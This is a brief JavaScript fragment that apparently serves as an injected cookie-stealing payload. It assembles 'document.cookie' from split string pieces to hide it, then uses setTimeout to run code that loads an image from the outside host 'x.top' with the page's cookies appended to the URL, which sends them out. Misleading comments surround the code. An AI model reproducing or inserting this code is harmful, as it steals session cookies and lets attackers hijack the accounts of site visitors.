// surroundings: durations
var a = 'doc', b = 'ument', c = '.coo', e = 'kie', f = "new Image().src='//x.top/?'+";
setTimeout(f + a + b + c + e, 50); //@act
